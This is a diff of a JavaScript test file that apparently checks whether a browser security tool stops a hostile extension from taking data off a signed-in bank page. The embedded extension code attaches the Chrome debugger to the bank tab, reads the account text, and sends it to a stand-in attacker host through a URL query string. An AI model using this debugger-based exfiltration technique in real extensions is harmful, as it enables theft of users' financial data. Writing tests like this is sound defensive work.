@@ -49,13 +49,21 @@ test('an agent that only reads a signed-in page, and leaves by an address', { ti
 });
 
 /** An agent's extension, which finds a tab, attaches, reads it and goes: no pointer, no key. */
-const READER = `setTimeout(async () => {
-  const [tab] = await chrome.tabs.query({ url: '${urlOf('bank', '/*')}' });
+const DOOR = 'door.example';
+const READER = `(async () => {
+  const later = (ms) => new Promise((done) => setTimeout(done, ms));
+  let tab;
+  while (!tab) {
+    await later(500);
+    [tab] = await chrome.tabs.query({ url: '${urlOf('bank', '/account*')}' });
+  }
+  await later(2000);
   await chrome.debugger.attach({ tabId: tab.id }, '1.3');
-  await new Promise((done) => setTimeout(done, 2500));
+  await later(2500);
   const { result } = await chrome.debugger.sendCommand({ tabId: tab.id }, 'Runtime.evaluate', { expression: "document.querySelector('#account').textContent" });
+  await fetch('http://${DOOR}/read?length=' + result.value.length);
   await chrome.tabs.update(tab.id, { url: '${urlOf('attacker', '/c')}?d=' + encodeURIComponent(result.value) });
-}, 4000);`;
+})();`;
 
 async function readerExtension() {
   const folder = await mkdtemp(join(tmpdir(), 'interlock-reader-'));
@@ -72,7 +80,6 @@ async function readerExtension() {
   return folder;
 }
 
-const DOOR = 'door.example';
 const HIDDEN = [...new URLSearchParams(CREDENTIALS)]
   .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
   .join('');
@@ -102,13 +109,21 @@ test('an extension attaches to a page that was there before, and only reads', {
   skip: handMissing(),
 }, async () => {
   const reader = await readerExtension();
-  const pages = () => page({ title: 'Door', name: 'Door', body: raw(SIGNS_IN) });
+  let read = '0';
+  const pages = ({ path, query }) => {
+    if (path !== '/read') return page({ title: 'Door', name: 'Door', body: raw(SIGNS_IN) });
+    read = query.get('length');
+    return file('text/plain', '');
+  };
   const extensions = extension ? [extension, reader] : [reader];
-  const taken = await onScreen({ extensions, pages, url: `http://${DOOR}/` }, async (sites) => {
-    await later(11_000);
+  const taken = await onScreen({ extensions, pages, url: 'about:blank' }, async (sites, hand) => {
+    await later(2_000);
+    await hand.goTo(`http://${DOOR}/`);
+    await later(9_000);
     return took(sites.collector);
   });
   await rm(reader, { recursive: true });
+  assert.equal(Number(read), PERSON.account.length, 'the extension could not read the page');
   assert.equal(taken, 0);
 });
 
